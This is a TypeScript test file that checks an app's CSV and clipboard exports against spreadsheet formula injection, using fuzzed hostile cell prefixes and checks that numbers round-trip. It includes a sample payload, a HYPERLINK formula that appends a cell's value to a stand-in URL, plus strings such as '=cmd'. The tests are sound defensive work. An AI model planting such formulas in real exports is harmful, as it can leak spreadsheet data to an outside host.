import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { inspectCsv } from '../../electron/engine/files/csv.ts'
import { writeCsv } from '../../electron/engine/files/write-csv.ts'
import { copiedBlock, pastedBlock } from '../../renderer/screens/bench/grid-block.ts'
import { asMeant } from '../../shared/neutral-text.ts'
import { testEngine } from '../engine/engine-in-folder.ts'
import { continuous, plannedStudy } from '../engine/studies-for-tests.ts'

/** Whether a spreadsheet would run a cell; a number it only reads. */
const runs = (cell: string) =>
  /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell)
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.flat()

const formula = '=HYPERLINK("http://a.example?"&A1)'
const hostile = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''-", '', '\n=', '"'),
    fc.string({ unit: 'grapheme', maxLength: 8 }),
  )
  .map(([sign, rest]) => sign + rest)
const cell = fc.oneof(
  hostile,
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.constant(null),
)

test('in whatever table is written no text is run, numbers stay numbers, and our own reading brings the texts back', () => {
  const table = fc.tuple(
    fc.array(hostile, { minLength: 2, maxLength: 4 }),
    fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 }),
  )
  fc.assert(
    fc.property(table, ([headers, rows]) => {
      const csv = writeCsv(headers, rows)
      expect(cellsOf(csv).filter(runs)).toEqual([])
      const back = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data
      rows.forEach((row, i) => {
        row.forEach((value, j) => {
          const written = back[i + 1]?.[j] ?? ''
          if (typeof value === 'number') expect(Number(written)).toBe(value + 0)
          else expect(asMeant(written)).toBe(value ?? '')
        })
      })
    }),
    { numRuns: process.env.EVENFILM_TEST_LONG ? 20_000 : 500, seed: 5 },
  )
  // Such as a difference below zero.
  expect(writeCsv(['a'], [[-1.5]])).toContain('\r\n-1.5\r\n')
  expect(inspectCsv(writeCsv(['=a', 'b'], [[formula, -1]])).table?.rows[0]?.cells).toEqual([formula, '-1'])
})

test('a text holds no formula for a spreadsheet that splits at semicolons or tabs either', () => {
  const pieces = fc.array(fc.constantFrom(';', '\t', '\n', '=1+1', '@a', '-x', "'", '"', 'a', ' ', ','), {
    maxLength: 8,
  })
  const texts = fc.array(
    pieces.map((parts) => parts.join('')),
    { minLength: 1, maxLength: 4 },
  )
  fc.assert(
    fc.property(texts, (cells) => {
      const csv = writeCsv(cells, [cells])
      for (const delimiter of [';', '\t']) {
        const split = Papa.parse<string[]>(csv.slice(1), { delimiter }).data.flat()
        expect(split.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
      }
      const back = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data[1] ?? []
      expect(back.map(asMeant)).toEqual(cells)
    }),
    { numRuns: process.env.EVENFILM_TEST_LONG ? 20_000 : 300, seed: 7 },
  )
  expect(writeCsv(['note'], [['a;=1+1']])).toContain("\r\na;'=1+1\r\n")
})

test('every table that a study is written to', async () => {
  const engine = await testEngine()
  const { ok } = engine
  const { studyId, runs: planned } = await plannedStudy(engine, [
    { ...continuous('=cmd', 'other', '-x', [1, 2], 2) },
    {
      ...continuous('@lot', 'lot', '', [1, 2], 2),
      ...{ kind: 'categorical', low: null, high: null, levelNames: ['=A', '+B'] },
    },
  ])
  await ok('studies.update', { studyId, change: { name: formula, question: formula } })
  const run = planned[0] as (typeof planned)[0]
  await ok('bench.updateRun', { runId: run.id, change: { note: '-5 °C outside\n=1+1' } })
  await ok('bench.enterReadings', { runId: run.id, unit: 'nm', readings: [{ site: 1, text: '1500' }] })
  const reading = (await ok('bench.card', { runId: run.id })).readings[0] as { id: string }
  await ok('bench.excludeReading', { readingId: reading.id, reason: '@reason' })
  const { id: gaugeId } = await ok('tools.saveGauge', { studyId, gauge: { name: '@gauge' } })
  const size = { operators: ['+A'], reloads: 2, scans: 2, toleranceNm: null, note: '' }
  const gaugeStudy = { gaugeId, wafers: [formula, 'a;=1+1'], ...size }
  const { id: gaugeStudyId } = await ok('gauges.startStudy', { studyId, study: gaugeStudy })
  const place = { wafer: 1, operator: 1, reload: 1, scan: 1, text: '1500' }
  await ok('gauges.enterReadings', { studyId, gaugeStudyId, unit: 'nm', readings: [place] })
  const standard = { name: '-500', nominalNm: 500, uncertaintyNm: 0, note: formula }
  const { id: standardId } = await ok('gauges.saveStandard', { studyId, standard })
  const log = [{ day: '2026-03-02', text: '501', unit: 'nm' }]
  await ok('gauges.enterCheckReadings', { studyId, gaugeId, standardId, readings: log })
  for (const file of [
    await ok('gauges.studyCsv', { gaugeStudyId }),
    await ok('gauges.checkLogCsv', { gaugeId, standardId }),
    await ok('reports.termsCsv', { studyId }),
  ])
    for (const delimiter of [',', ';'])
      expect(Papa.parse<string[]>(file.text.slice(1), { delimiter }).data.flat().filter(runs)).toEqual([])
  for (const call of ['runsCsv', 'readingsCsv', 'ledgerCsv', 'historyCsv'] as const) {
    const { text } = await ok(`reports.${call}`, { studyId })
    const cells = cellsOf(text)
    expect(cells.length, call).toBeGreaterThan(3)
    expect(cells.filter(runs), call).toEqual([])
  }
  const { text } = await ok('reports.runsCsv', { studyId })
  for (const written of ["'=cmd (-x)", "'@lot", "'=A", "'-5 °C outside"]) expect(text).toContain(written)
})

test('every file that is written as a table goes through the one writer', () => {
  const root = join(import.meta.dirname, '../..')
  const writers = ['electron', 'renderer', 'shared'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.(ts|vue)$/.test(name))
      .filter((name) =>
        /unparse|join\((['"`])(\\t|,|;)\1\)/.test(readFileSync(join(root, folder, name), 'utf8')),
      )
      .map((name) => `${folder}/${name}`),
  )
  // The other joins make keys and attributes of pictures; what is copied has its own test below.
  expect(writers.sort()).toEqual([
    'electron/engine/files/write-csv.ts',
    'renderer/screens/bench/grid-block.ts',
  ])
})

describe('what is copied from the grid', () => {
  const copied = (names: string[], texts: string[][]) =>
    copiedBlock(
      { corner: 'run', rows: names, columns: texts[0]?.map((_, i) => `site ${i + 1}`) ?? [], texts },
      { from: { row: 0, column: 0 }, to: { row: names.length - 1, column: (texts[0]?.length ?? 1) - 1 } },
    )

  test('runs nothing, holds its rows together, and keeps its numbers', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (names) => {
        const text = copied(
          names,
          names.map(() => ['-1.5', '1500 nm', '=1+1']),
        )
        const lines = text
          .split('\n')
          .slice(0, -1)
          .map((line) => line.split('\t'))
        expect(lines).toHaveLength(names.length + 1)
        for (const line of lines) {
          expect(line).toHaveLength(4)
          expect(line.filter(runs)).toEqual([])
        }
        expect(lines[1]?.[1]).toBe('-1.5')
      }),
      { seed: 6 },
    )
  })

  test('comes back under a run whose code looks like a formula', () => {
    const names = ['=W1', '+W2']
    const text = copied(names, [['1500'], ['1510']])
    const pasted = pastedBlock(
      text,
      { from: { row: 0, column: 0 }, to: { row: 0, column: 0 } },
      {
        ...{ rows: 2, columns: 1, heads: names, names: { rows: 'runs', columns: 'sites' } },
        ...{ studyId: 'study', unit: 'nm' },
      },
    )
    expect(pasted.ok && pasted.value.map(({ valueNm }: { valueNm: number | null }) => valueNm)).toEqual([
      1500, 1510,
    ])
  })
})
